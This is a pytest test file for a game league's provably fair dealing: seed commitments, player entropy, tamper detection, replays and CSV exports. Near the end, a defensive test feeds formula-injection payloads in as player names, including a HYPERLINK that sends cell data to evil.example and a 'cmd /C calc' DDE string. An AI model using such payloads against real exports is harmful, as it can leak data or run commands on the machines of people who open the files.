"""Provably fair dealing (league/services/fairness.py): commitment, entropy, the engine seed, the full verifier,
and the exports."""

import csv
import hashlib
import hmac
import io
import json
import random
from datetime import timedelta

import pytest
from django.utils import timezone

from games import get_engine
from games.core.events import visible
from league.errors import InvalidValue, NotSeated, TableClosed
from league.models import EntropyContribution, LedgerEntry, Move, Standing, Table, TableFairness
from league.selectors.tables import table_view_for
from league.services.fairness import (
    ALGORITHM_VERSION,
    NotRevealed,
    engine_seed_derive,
    entropy_add,
    entropy_waive,
    fairness_view,
    history_text,
    record_export,
    replay_step,
    season_csv,
    table_seed_finalize,
    table_verify_full,
    tables_seed_sweep,
)
from league.services.moves import move_submit
from league.services.rounds import season_start
from league.services.tables import table_annul
from tests.league.factories import table_for
from tests.league.fairness.helpers import seated
from tests.league.playing import play_moves
from tests.league.seasons.factories import season_with_entrants
from tests.league.seasons.support import tables_in_play

pytestmark = pytest.mark.django_db

SERVER_SEED = "server-secret-0123456789"
WINDOW = timedelta(hours=1)


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _hmac(key: str, entropy: list) -> str:
    return hmac.new(key.encode(), json.dumps(entropy, separators=(",", ":")).encode(), hashlib.sha256).hexdigest()


@pytest.fixture
def played(fake_game: str) -> Table:
    """A finished three-round test-duel that went through the entropy step."""
    table = table_for(fake_game, options={"rounds": 3}, seed=SERVER_SEED, entropy_window=WINDOW)
    first, second = seated(table)
    entropy_add(table_id=table.pk, player=first, entropy="alpha")
    entropy_add(table_id=table.pk, player=second, entropy="beta")
    table.refresh_from_db()
    return play_moves(table, random.Random(7))


# --- the commitment and the engine seed --------------------------------------------------------------------------


def test_the_commitment_is_published_when_the_table_opens_and_the_seed_is_not(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED)

    view = fairness_view(table=table)

    assert (view["commitment"], view["algorithm_version"]) == (_sha256(SERVER_SEED), ALGORITHM_VERSION)
    assert (view["revealed"], view["server_seed"], view["engine_seed"]) == (False, None, None)


def test_a_table_opened_without_an_entropy_step_deals_from_the_server_seed(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED)

    assert table.status == Table.Status.ACTIVE
    assert table.seed == SERVER_SEED == TableFairness.objects.get(table=table).server_seed
    assert fairness_view(table=table)["entropy_step"] is False


def test_the_engine_seed_is_the_hmac_of_the_entropy_keyed_by_the_server_seed() -> None:
    assert engine_seed_derive(server_seed="k", entropy=["a", None]) == _hmac("k", ["a", None])
    assert engine_seed_derive(server_seed="k", entropy=[None, None]) == "k"
    # a seat's text cannot be shifted into its neighbour's: "a|b" + "" is not "a" + "|b"
    assert engine_seed_derive(server_seed="k", entropy=["a|", "b"]) != engine_seed_derive(
        server_seed="k", entropy=["a", "|b"]
    )


# --- the entropy step --------------------------------------------------------------------------------------------


def test_a_table_with_an_entropy_window_waits_seeding_with_no_state_and_refuses_moves(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)
    first, _ = seated(table)

    assert (table.status, table.state, table.seed, table.deadline) == (Table.Status.SEEDING, {}, "", None)
    assert not table.seats.filter(to_act=True).exists()
    assert fairness_view(table=table)["commitment"] == _sha256(SERVER_SEED)
    view = table_view_for(table=table, player=first)
    assert (view["status"], view["state"], view["to_act"], view["legal_moves"]) == ("seeding", {}, [], [])
    with pytest.raises(TableClosed):
        move_submit(table_id=table.pk, player=first, move={"type": "pick", "value": 1}, expected_version=0)


def test_the_last_seat_to_add_entropy_deals_from_the_derived_seed(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)
    first, second = seated(table)

    entropy_add(table_id=table.pk, player=second, entropy="beta")
    table.refresh_from_db()
    assert table.status == Table.Status.SEEDING
    entropy_add(table_id=table.pk, player=first, entropy="alpha")
    table.refresh_from_db()

    seed = _hmac(SERVER_SEED, ["alpha", "beta"])
    assert (table.status, table.seed) == (Table.Status.ACTIVE, seed)
    assert table.state == get_engine(fake_game).new_game(players=2, seed=seed, options=table.options)
    assert table.deadline is not None and set(table.seats.filter(to_act=True).values_list("index", flat=True)) == {
        0,
        1,
    }


def test_a_waived_seat_counts_as_null_and_all_waived_deals_from_the_server_seed(fake_game) -> None:
    one = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)
    entropy_add(table_id=one.pk, player=seated(one)[0], entropy="alpha")
    entropy_waive(table_id=one.pk, player=seated(one)[1])
    none = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)
    for player in seated(none):
        entropy_waive(table_id=none.pk, player=player)
    one.refresh_from_db()
    none.refresh_from_db()

    assert one.seed == _hmac(SERVER_SEED, ["alpha", None])
    assert none.seed == SERVER_SEED


def test_entropy_changes_the_decks() -> None:
    """Same server seed: different entropy deals different hands, the same entropy the same hands."""
    hands = []
    for words in (["a", "b", "c", "d"], ["a", "b", "c", "e"], ["a", "b", "c", "d"]):
        table = table_for("coinche", players=4, seed=SERVER_SEED, entropy_window=WINDOW)
        for player, word in zip(seated(table), words, strict=True):
            entropy_add(table_id=table.pk, player=player, entropy=word)
        table.refresh_from_db()
        hands.append(table.state["hands"])

    assert hands[0] != hands[1]
    assert hands[0] == hands[2]
    assert hands[0] != table_for("coinche", players=4, seed=SERVER_SEED).state["hands"]


def test_a_seat_answers_once_only_while_seeding_and_only_its_own(fake_game) -> None:
    table = table_for(fake_game, players=3, seed=SERVER_SEED, entropy_window=WINDOW)
    first, second, third = seated(table)
    outsider = seated(table_for(fake_game))[0]
    entropy_add(table_id=table.pk, player=first, entropy="alpha")

    with pytest.raises(InvalidValue) as again:
        entropy_waive(table_id=table.pk, player=first)
    with pytest.raises(InvalidValue) as empty:
        entropy_add(table_id=table.pk, player=second, entropy="")
    with pytest.raises(InvalidValue):
        entropy_add(table_id=table.pk, player=second, entropy="x" * 129)
    with pytest.raises(NotSeated):
        entropy_add(table_id=table.pk, player=outsider, entropy="gamma")
    entropy_waive(table_id=table.pk, player=second)
    entropy_waive(table_id=table.pk, player=third)
    with pytest.raises(TableClosed):
        entropy_add(table_id=table.pk, player=third, entropy="late")

    assert (again.value.code, empty.value.field) == ("entropy_given", "entropy")
    assert EntropyContribution.objects.filter(table=table).count() == 3


def test_the_window_closes_the_step_with_the_silent_seats_waived(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)
    first, _ = seated(table)
    entropy_add(table_id=table.pk, player=first, entropy="alpha")
    now = timezone.now()

    assert table_seed_finalize(table_id=table.pk, now=now) is None
    assert tables_seed_sweep(now=now + WINDOW * 2) == 1
    assert tables_seed_sweep(now=now + WINDOW * 2) == 0  # a second sweep finds nothing to do
    table.refresh_from_db()

    assert (table.status, table.seed) == (Table.Status.ACTIVE, _hmac(SERVER_SEED, ["alpha", None]))
    assert EntropyContribution.objects.get(table=table, seat=1).waived is True


def test_a_seeding_table_may_be_annulled_and_then_reveals_its_seed(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)

    table_annul(table_id=table.pk, reason="no show")

    assert fairness_view(table=Table.objects.get(pk=table.pk))["server_seed"] == SERVER_SEED


# --- the seed stays secret until the end -------------------------------------------------------------------------


def test_the_seed_is_in_no_export_before_the_end(fake_game) -> None:
    table = table_for(fake_game, seed=SERVER_SEED, entropy_window=WINDOW)
    for player in seated(table):
        entropy_add(table_id=table.pk, player=player, entropy="e")
    table = play_moves(Table.objects.get(pk=table.pk), random.Random(3), count=3)
    assert table.status == Table.Status.ACTIVE

    record = record_export(table_id=table.pk)
    text = json.dumps(record)

    assert SERVER_SEED not in text and table.seed not in text
    assert (record["server_seed"], record["engine_seed"]) == (None, None)
    # what the public move log shows, never a payload: the two secret picks, then a bet and its amount
    public = ["at", "auto", "events", "hidden", "seat", "seq", "story", "type"]
    assert [sorted(move) for move in record["moves"]] == [public, public, public]
    first, second, bet = record["moves"]
    assert (first["events"][0], first["hidden"]) == ({"type": "pick", "seat": first["seat"]}, True)
    assert second["events"][0] == {"type": "pick", "seat": second["seat"]}
    assert bet["events"][0]["type"] == "bet" and isinstance(bet["events"][0]["amount"], int)
    with pytest.raises(NotRevealed):
        history_text(table_id=table.pk)
    with pytest.raises(NotRevealed):
        replay_step(table_id=table.pk, step=0)


def test_a_finished_table_reveals_both_seeds(played) -> None:
    record = record_export(table_id=played.pk)

    assert (record["server_seed"], record["engine_seed"]) == (SERVER_SEED, _hmac(SERVER_SEED, ["alpha", "beta"]))
    assert record["entropy"] == ["alpha", "beta"]
    assert record["commitment"] == _sha256(SERVER_SEED)
    assert [move["payload"] for move in record["moves"]] == list(
        Move.objects.filter(table=played).order_by("seq").values_list("payload", flat=True)
    )
    assert record["ledger"] == [entry.row for entry in LedgerEntry.objects.filter(table=played).order_by("index")]
    assert sorted(row["place"] for row in record["results"]) == sorted(played.results.values_list("place", flat=True))


# --- the full verifier: each tampering is reported ---------------------------------------------------------------


def test_an_untouched_table_verifies(played) -> None:
    assert table_verify_full(table=played) == []


def test_a_tampered_move_is_reported(played) -> None:
    move = Move.objects.get(table=played, seq=1)
    move.payload = {"type": "pick", "value": move.payload["value"] % 3 + 1}
    move.save()

    # the first round's picks are in its ledger row too, and the tampered pick's events name another value
    assert table_verify_full(table=played) == [
        "move 1's events differ from the replay",
        "move 2's events differ from the replay",
        "stored state differs from the replay of seed + moves",
        "ledger row 0 differs from the replay",
    ]


def test_a_tampered_engine_seed_is_reported(played) -> None:
    Table.objects.filter(pk=played.pk).update(seed="another-seed")
    played.refresh_from_db()

    differences = table_verify_full(table=played)

    assert differences[0] == "the engine seed is not the one derived from the server seed and the entropy"
    assert "stored state differs from the replay of seed + moves" in differences


def test_a_tampered_server_seed_is_reported(played) -> None:
    TableFairness.objects.filter(table=played).update(server_seed="guessed")

    assert table_verify_full(table=played) == [
        "the server seed does not match the published commitment",
        "the engine seed is not the one derived from the server seed and the entropy",
    ]


def test_tampered_entropy_is_reported(played) -> None:
    EntropyContribution.objects.filter(table=played, seat=1).update(entropy="gamma")

    assert table_verify_full(table=played) == [
        "the engine seed is not the one derived from the server seed and the entropy"
    ]


def test_a_tampered_ledger_row_is_reported(played) -> None:
    row = LedgerEntry.objects.get(table=played, index=1)
    row.row = {**row.row, "deltas": [row.row["deltas"][0] + 1, row.row["deltas"][1] - 1]}
    row.save()

    assert table_verify_full(table=played) == ["ledger row 1 differs from the replay"]


# --- replays and histories ---------------------------------------------------------------------------------------


def test_the_replay_steps_through_the_moves_to_the_end(played) -> None:
    first = Move.objects.get(table=played, seq=1)

    deal, one, last = (replay_step(table_id=played.pk, step=n) for n in (0, 1, played.version + 5))

    assert (deal["step"], deal["seat"], deal["move"], deal["to_act"]) == (0, None, None, [0, 1])
    assert (one["step"], one["seat"], one["move"]) == (1, first.seat, first.payload)
    assert (last["step"], last["steps"], last["over"], last["to_act"]) == (played.version, played.version, True, [])
    assert last["ledger"] == [entry.row for entry in LedgerEntry.objects.filter(table=played).order_by("index")]


def test_the_replay_shows_the_board_as_a_spectator_saw_it_and_no_seat_s_hand() -> None:
    # given: a Coinche table annulled after six moves of its first deal, so no card of it was played yet beyond those
    table = play_moves(table_for("coinche", players=4, seed=SERVER_SEED), random.Random(4), count=6)
    table_annul(table_id=table.pk, reason="test")
    engine = get_engine("coinche")
    state = engine.new_game(players=4, seed=SERVER_SEED, options=table.options)
    for move in Move.objects.filter(table=table).order_by("seq"):
        state = engine.apply_move(state, move.seat, move.payload)

    # when: the replay is shown at the deal and after the sixth move
    deal, after = replay_step(table_id=table.pk, step=0), replay_step(table_id=table.pk, step=6)

    # then: the board is the spectator's, and of the hands dealt nothing shows but the cards played in public
    assert (deal["board"], after["board"]) == (
        engine.view(engine.new_game(players=4, seed=SERVER_SEED, options=table.options), None),
        engine.view(state, None),
    )
    held = {card for hand in _hands_dealt(SERVER_SEED, table.options) for card in hand}
    told = json.dumps([visible(move.events, None) for move in Move.objects.filter(table=table)])
    played = {card for card in held if f'"{card}"' in told}
    assert len(played) <= 6 < len(held)
    for step in (deal, after):
        assert "held" not in step
        shown = json.dumps(step, default=str)
        assert [card for card in held - played if f'"{card}"' in shown] == []
    assert [seat["seat"] for seat in after["seats"]] == [0, 1, 2, 3]


def _hands_dealt(seed: str, options: dict) -> list:
    engine = get_engine("coinche")
    state = engine.new_game(players=4, seed=seed, options=options)
    return [engine.view(state, seat)["hand"] for seat in range(4)]


def test_the_history_lists_the_seeds_every_deal_every_move_and_the_ledger(played) -> None:
    text = history_text(table_id=played.pk)
    lines = text.splitlines()

    assert f"server seed {SERVER_SEED}" in lines
    assert 'entropy     seat 0: "alpha", seat 1: "beta"' in lines
    assert [line for line in lines if line.startswith("== deal")] == ["== deal 1", "== deal 2", "== deal 3"]
    assert sum(line.startswith("  #") for line in lines) == played.version
    assert sum(line.startswith("  -- ledger") for line in lines) == 3
    assert lines[-3] == "== result"


# --- season exports ----------------------------------------------------------------------------------------------


def test_season_standings_and_results_export_as_csv(fake_game, django_capture_on_commit_callbacks) -> None:
    season, organizer, _ = season_with_entrants(fake_game, entrants=3, options={"rounds": 1})
    season = season_start(season=season, by=organizer)
    for table in tables_in_play(season):
        with django_capture_on_commit_callbacks(execute=True):
            play_moves(table, random.Random(5))

    standings = list(csv.reader(io.StringIO(season_csv(season_id=season.pk, kind="standings"))))
    results = list(csv.reader(io.StringIO(season_csv(season_id=season.pk, kind="results"))))

    assert standings[0][:6] == ["rank", "entrant", "points", "played", "wins", "byes"]
    assert [row[0] for row in standings[1:]] == ["1", "2", "3"]
    assert [row[1] for row in standings[1:]] == [
        str(s.entrant) for s in Standing.objects.filter(season=season).order_by("rank")
    ]
    assert results[0] == ["round", "table", "status", "seat", "player", "place", "score"]
    assert [(row[0], row[2], row[3]) for row in results[1:]] == [("1", "finished", "0"), ("1", "finished", "1")]
    with pytest.raises(InvalidValue):
        season_csv(season_id=season.pk, kind="ratings")


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1", "\r=1"],
)
def test_a_name_that_would_start_a_formula_is_text_in_both_exports(fake_game, name, django_capture_on_commit_callbacks):
    # given: a season whose first entrant chose a formula for a name (finding 8)
    season, organizer, players = season_with_entrants(fake_game, entrants=2, options={"rounds": 1})
    players[0].display_name = name
    players[0].save(update_fields=["display_name"])
    season = season_start(season=season, by=organizer)
    for table in tables_in_play(season):
        with django_capture_on_commit_callbacks(execute=True):
            play_moves(table, random.Random(5))
    # when: both exports are read as a spreadsheet reads them
    standings = list(csv.reader(io.StringIO(season_csv(season_id=season.pk, kind="standings"))))
    results = list(csv.reader(io.StringIO(season_csv(season_id=season.pk, kind="results"))))
    cells = [cell for row in standings[1:] + results[1:] for cell in row]
    # then: the name is there as text (an apostrophe first), and no cell starts a formula
    assert "'" + name in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not cell.lstrip("-").replace("/", "").isdigit()]


def test_numbers_and_exact_fractions_stay_values() -> None:
    from league.spreadsheet import cell_safe

    assert [cell_safe(v) for v in (-3, "-3", "-1/2", "2.5", "+4", "=1", "-x")] == [
        -3,
        "-3",
        "-1/2",
        "2.5",
        "+4",
        "'=1",
        "'-x",
    ]
